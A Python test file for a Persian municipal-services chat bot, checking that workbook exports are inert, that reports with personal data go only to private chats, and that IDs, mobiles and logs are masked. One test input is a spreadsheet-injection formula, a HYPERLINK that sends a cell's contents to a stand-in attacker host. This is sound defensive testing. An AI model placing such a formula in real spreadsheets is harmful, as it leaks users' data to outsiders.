"""Personal data goes only where it is needed: workbooks are inert, reports with personal data are
made only in a private chat, cards mask national IDs and mobiles (header and answers) unless the
service card says the unit needs them, and logs carry no personal data."""

from __future__ import annotations

import io
import logging

import pytest
from openpyxl import load_workbook

from bot import logs
from models import Request, SurveyResponse
from tests.factories import FAST, TEST_CATALOG, VALID_NID, fill_permit_form, fill_profile, make_world, open_service

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
async def reports_desk(make_desk, report_data):
    return await make_desk(catalog={"dir": str(TEST_CATALOG)}, outbox=FAST)


async def test_export_writes_user_text_as_inert_text(reports_desk):
    desk = reports_desk
    response = await SurveyResponse.filter(completed_at__not_isnull=True).order_by("id").first()
    response.suggestion = FORMULA
    await response.save()
    request = await Request.get(id=response.request_id)
    request.answers = [{"name": "owner_name", "type": "text", "value": "@SUM(1+1)"}]
    await request.save()
    admin = desk.standin.user("Admin", user_id=900)
    await admin.send("/export 1404/02/01-1404/02/31")
    data_ = desk.standin.files.get(admin.last["document"]["file_id"]).data
    ws = load_workbook(io.BytesIO(data_)).active
    cells = [c for row in ws.iter_rows() for c in row]
    suggestion = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert suggestion.data_type == "s" and suggestion.value == "'" + FORMULA
    assert not any(c.data_type == "f" for c in cells)
    assert [c.data_type for c in cells if c.value == request.tracking_code] == ["s"]  # a code, as text


async def test_reports_with_personal_data_only_in_a_private_chat(reports_desk):
    desk = reports_desk
    admin = desk.standin.user("Admin", user_id=900)
    group = desk.standin.group("Staff", members={admin.id: "administrator"})
    await group.send(admin, "/export 1404/02/01-1404/02/31")
    assert "گفت‌وگوی خصوصی" in group.last["plain"] and "document" not in group.last
    assert not any("document" in m for m in group.messages)
    en = desk.standin.user("Admin", user_id=901, language_code="en")
    desk.settings.admins.append("901")
    await group.send(en, "/export")
    assert "private chat" in group.last["plain"]
    await admin.send("/export 1404/02/01-1404/02/31")
    assert "document" in admin.last  # in the private chat it works


@pytest.fixture
async def staff_desk(make_desk):
    return await make_desk(outbox=FAST)


async def test_the_card_masks_national_ids_and_mobiles_everywhere(staff_desk):
    world = await make_world(staff_desk)
    request = await world.submit()
    text = world.card(request)["plain"]
    persian = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")
    for secret in (VALID_NID, "09121234567"):
        assert secret not in text and secret.translate(persian) not in text
    assert text.count("۰۰۱••••۶۷۹") == 2 and text.count("۰۹۱•••••۵۶۷") == 2  # header and answers


async def test_a_card_that_needs_ids_in_full_shows_them(staff_desk):
    card = staff_desk.catalog.services["tax-clearance"]
    staff_desk.catalog.services["tax-clearance"] = card.model_copy(update={"show_ids_in_full": True})
    world = await make_world(staff_desk)
    request = await world.submit()
    text = world.card(request)["plain"]
    assert text.count("۰۰۱۲۳۴۵۶۷۹") == 2 and "•" not in text.split("کد ملی:")[1].split("\n")[0]


@pytest.fixture
async def journey_desk(make_desk):
    return await make_desk(catalog={"dir": str(TEST_CATALOG)}, outbox=FAST)


async def test_logs_carry_no_personal_data(journey_desk, caplog):
    """A whole journey (profile, form, submission, the staff card, staff's question and the answer)
    with every logger at DEBUG, as the processes configure them: no name, national ID or mobile."""
    desk = journey_desk
    caplog.set_level(logging.DEBUG)
    logs.quiet()
    admin = desk.citizen("Admin", user_id=900)
    group = desk.group("Permits", members={admin.id: "administrator"})
    await group.send(admin, "/bind muni-d5")
    await group.send(admin, "/bind muni-hq")
    user = desk.citizen("Zahra")
    await open_service(user, "شهرداری تهران", "استعلام پروانه ساختمان")
    await user.press("ثبت درخواست این خدمت")
    await fill_profile(user, name="Zahra Tehrani")
    await fill_permit_form(user, owner="Parvin Ahmadi")
    await user.press("ثبت نهایی")
    await desk.deliver_outbox()
    request = await Request.get()
    await group.reply(admin, request.card_message_id, "Please send the deed again")
    await desk.deliver_outbox()
    await user.send(f"/track {request.tracking_code}")
    lines = "\n".join(r.getMessage() for r in caplog.records)
    for secret in (VALID_NID, "09121234567", "9121234567", "Zahra Tehrani", "Parvin Ahmadi", "1193653471"):
        assert secret not in lines, secret
